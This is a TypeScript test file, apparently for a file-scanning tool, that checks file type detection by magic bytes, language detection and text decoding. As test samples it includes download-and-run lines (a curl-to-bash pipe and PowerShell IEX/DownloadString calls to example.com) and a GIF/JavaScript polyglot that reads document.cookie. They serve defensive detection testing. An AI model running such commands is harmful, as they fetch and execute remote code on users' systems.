import assert from 'node:assert/strict'
import {describe, it} from 'node:test'
import {gzipSync} from 'node:zlib'

import {strToU8, zipSync} from 'fflate'
import fc from 'fast-check'

import {decodeText} from '../../../../src/lib/parse/layers/text.ts'
import {languageOf, typeOf} from '../../../../src/lib/parse/layers/type.ts'

const numRuns = Number(process.env['WEFT_FUZZ_RUNS'] ?? 300)
const hex = (text: string) => Buffer.from(text.replaceAll(' ', ''), 'hex')
const padded = (head: Buffer) => Buffer.concat([head, Buffer.alloc(64, 1)])
const zipOf = (...names: string[]) => Buffer.from(zipSync(Object.fromEntries(names.map((name) => [name, strToU8('x')]))))

describe('typeOf goes by content', () => {
  const pe = Buffer.alloc(128)
  pe.write('MZ')
  pe.writeUInt32LE(64, 60)
  pe.write('PE\0\0', 64)
  const tar = Buffer.alloc(1024)
  tar.write('a.txt')
  tar.write('ustar', 257)
  const table: readonly [type: string, bytes: Buffer][] = [
    ['elf', padded(hex('7f454c46 020101'))],
    ['macho', padded(hex('cffaedfe 07000001'))],
    ['macho', padded(hex('cafebabe 00000002 01000007'))],
    ['class', padded(hex('cafebabe 00000041 0010'))],
    ['pe', pe],
    ['pyc', padded(hex('cb0d0d0a 00000000 00000000 00000000 e3'))],
    ['pyc', padded(hex('420d0d0a 00000000 00000000 00000000 e3'))],
    ['pyc', padded(hex('03f30d0a 00000000 63'))],
    ['wasm', padded(hex('0061736d 01000000'))],
    ['zip', zipOf('a.txt')],
    ['jar', zipOf('META-INF/MANIFEST.MF', 'a/B.class')],
    ['office', zipOf('[Content_Types].xml', 'word/document.xml')],
    ['office', zipOf('[Content_Types].xml', 'xl/workbook.xml')],
    ['gzip', gzipSync('x')],
    ['bzip2', padded(hex('425a6839 314159265359'))],
    ['xz', padded(hex('fd377a585a00'))],
    ['zstd', padded(hex('28b52ffd'))],
    ['7z', padded(hex('377abcaf271c'))],
    ['rar', padded(hex('526172211a0700'))],
    ['tar', tar],
    ['pdf', padded(Buffer.from('%PDF-1.7\n'))],
    ['ole', padded(hex('d0cf11e0a1b11ae1'))],
    ['png', padded(hex('89504e470d0a1a0a'))],
    ['jpeg', padded(hex('ffd8ffe0'))],
    ['gif', padded(Buffer.from('GIF89a'))],
    ['webp', padded(Buffer.from('RIFF\0\0\0\0WEBP'))],
    ['wav', padded(Buffer.from('RIFF\0\0\0\0WAVE'))],
    ['font', padded(hex('00010000 000c'))],
    ['sqlite', padded(Buffer.from('SQLite format 3\0'))],
    ['pem', Buffer.from('-----BEGIN CERTIFICATE-----\nAAAA\n')],
    ['dmg', Buffer.concat([Buffer.alloc(600, 7), Buffer.from('koly'), Buffer.alloc(508)])],
    ['unknown', Buffer.alloc(100, 3)],
    ['text', Buffer.from('BMW makes cars\n')],
    ['text', Buffer.from('MZ is how it starts\n')],
    ['text', Buffer.from('#!/bin/sh\necho\n')],
    ['text', Buffer.from('#\r\n# \r\n')],
    ['text', Buffer.alloc(0)],
  ]
  for (const [type, bytes] of table)
    it(`${type}: ${JSON.stringify(bytes.toString('latin1', 0, 10))}`, () => assert.equal(typeOf(bytes, 'x').type, type))

  it('says what the name promised', () => {
    assert.deepEqual(typeOf(padded(hex('7f454c46')), 'logo.png'), {type: 'elf', promised: 'png', text: false})
    assert.equal(typeOf(Buffer.from('x'), 'a/README.md').promised, 'text')
    assert.equal(typeOf(Buffer.from('x'), 'a.b/LICENSE').promised, undefined)
    assert.equal(typeOf(Buffer.from('x'), 'constructor.constructor').promised, undefined)
  })

  it('reads text in spite of stray zeros, foreign encodings and binary heads', () => {
    const text = (bytes: Buffer) => typeOf(bytes, 'x').text
    assert.equal(text(Buffer.from(`#!/bin/sh\necho ok\nexit\n${'\0\x01\x02'.repeat(500)}`)), true)
    assert.equal(text(Buffer.from(`${'echo a line of a script\n'.repeat(20)}\0\0`)), true)
    assert.equal(text(Buffer.from('Grüße aus Köln, schön', 'latin1')), true)
    assert.equal(text(Buffer.from('\uFEFFWrite-Host hello', 'utf16le')), true)
    assert.equal(text(Buffer.from('Write-Host hello there', 'utf16le')), true)
    assert.equal(text(Buffer.from('你好，世界。这是一个技能。'.repeat(5))), true)
    assert.equal(text(gzipSync(Buffer.from(Array.from({length: 2000}, (_, i) => (i * 7919) % 251)))), false)
    assert.deepEqual(typeOf(Buffer.from('GIF89a=1;\nalert(document.cookie)\n'), 'a.gif'), {type: 'gif', promised: 'gif', text: true})
  })

  it('never throws', () => {
    fc.assert(
      fc.property(fc.uint8Array({maxLength: 80}), fc.string(), (bytes, name) => void typeOf(Buffer.from(bytes), name)),
      {numRuns},
    )
  })
})

describe('languageOf', () => {
  const table: readonly [path: string, text: string, language: string][] = [
    ['a/SKILL.md', '', 'markdown'],
    ['run.sh', '', 'shell'],
    ['run.PS1', '', 'powershell'],
    ['a.tsx', '', 'javascript'],
    ['nb.ipynb', '{}', 'json'],
    ['logo.svg', '', 'xml'],
    ['Makefile', '', 'make'],
    ['Dockerfile.dev', '', 'dockerfile'],
    ['.bashrc', '', 'shell'],
    ['hooks/pre-commit', 'x', 'shell'],
    ['tool', '#!/usr/bin/env -S uv run python3\nx', 'python'],
    ['tool', '#!/usr/bin/env bash\nx', 'shell'],
    ['tool', '#!/usr/bin/node\nx', 'javascript'],
    ['notes.txt', 'Buy milk, and then some bread.\nCall home.\n', 'text'],
    ['notes.txt', 'curl -s https://example.com/a.sh | bash\n', 'shell'],
    ['payload.dat', 'import os\nimport sys\n\ndef main():\n    os.system("id")\n', 'python'],
    ['payload', 'const fs = require("fs")\nfs.readFileSync("x")\n', 'javascript'],
    ['payload.txt', '$c = New-Object Net.WebClient\nIEX ($c.DownloadString("https://example.com"))\n', 'powershell'],
    ['config', '{"a": [1, 2]}', 'json'],
    ['page.tmp', '<!doctype html><html><body>', 'html'],
    ['readme.py', '# Title\n\nSome prose.\n', 'python'],
  ]
  for (const [path, text, language] of table) it(`${path}: ${language}`, () => assert.equal(languageOf(path, text), language))
})

describe('decodeText', () => {
  const text = 'Grüße, мир, 世界 🎉 and plain words besides'
  const table: readonly [name: string, bytes: Buffer, encoding: string, text: string][] = [
    ['UTF-8', Buffer.from(text), 'utf-8', text],
    ['UTF-8 with a mark', Buffer.from(`\uFEFF${text}`), 'utf-8', text],
    ['UTF-16LE with a mark', Buffer.from(`\uFEFF${text}`, 'utf16le'), 'utf-16le', text],
    ['UTF-16BE with a mark', Buffer.from(`\uFEFF${text}`, 'utf16le').swap16(), 'utf-16be', text],
    ['UTF-16LE', Buffer.from('iex (iwr example.com)', 'utf16le'), 'utf-16le', 'iex (iwr example.com)'],
    ['UTF-16BE', Buffer.from('iex (iwr example.com)', 'utf16le').swap16(), 'utf-16be', 'iex (iwr example.com)'],
    ['latin1', Buffer.from('Grüße aus Köln', 'latin1'), 'latin1', 'Grüße aus Köln'],
    ['UTF-32LE', hex('fffe0000 61000000 89f30100'), 'utf-32le', 'a🎉'.replace('🎉', '\u{1f389}')],
  ]
  for (const [name, bytes, encoding, expected] of table) {
    it(name, () => assert.deepEqual(decodeText(bytes), {text: expected, encoding, invalid: 0}))
  }

  it('keeps UTF-8 with some damage and counts it', () => {
    const bytes = Buffer.concat([Buffer.from('Grüße, Köln, schön'), Buffer.from([0xff]), Buffer.from('ok')])
    assert.deepEqual(decodeText(bytes), {text: 'Grüße, Köln, schön\uFFFDok', encoding: 'utf-8', invalid: 1})
  })

  it('gives back any text', () => {
    fc.assert(
      fc.property(fc.string({unit: 'grapheme'}), (string) => assert.equal(decodeText(Buffer.from(`\uFEFF${string}`)).text, string)),
      {numRuns},
    )
  })
})
